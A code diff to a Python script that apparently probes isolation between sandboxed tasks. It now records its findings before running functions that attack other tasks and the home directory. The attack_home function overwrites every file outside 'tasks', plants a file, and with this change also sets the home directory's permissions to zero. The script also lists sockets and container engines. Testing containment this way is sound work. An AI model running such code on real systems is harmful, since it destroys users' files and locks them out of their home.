@@ -44,11 +44,11 @@ def main() -> None:
         "sockets": [path for path in everything_below("/") if is_socket(path)],
         "engines": [name for name in ("podman", "docker") if shutil.which(name)],
     }
+    with open(os.path.join(OWN, "attack.json"), "w", encoding="utf-8") as file:
+        json.dump(report, file)
     attack_other_tasks(targets["others"])
     attack_own_folder(targets["paths"])
     attack_home()
-    with open(os.path.join(OWN, "attack.json"), "w", encoding="utf-8") as file:
-        json.dump(report, file)
 
 
 def everything_below(top: str) -> Iterator[str]:
@@ -126,11 +126,13 @@ def attack_own_folder(paths: list[str]) -> None:
 
 
 def attack_home() -> None:
-    """Overwrite every file outside of `tasks`, and add one."""
+    """Overwrite every file outside of `tasks`, add one, and close the home."""
     for path in list(everything_below(HOME)):
         if os.path.relpath(path, HOME).partition("/")[0] != "tasks":
             overwrite(path)
     overwrite(os.path.join(HOME, "planted.txt"))
+    with suppress(OSError):
+        os.chmod(HOME, 0)
 
 
 def overwrite(path: str) -> None:
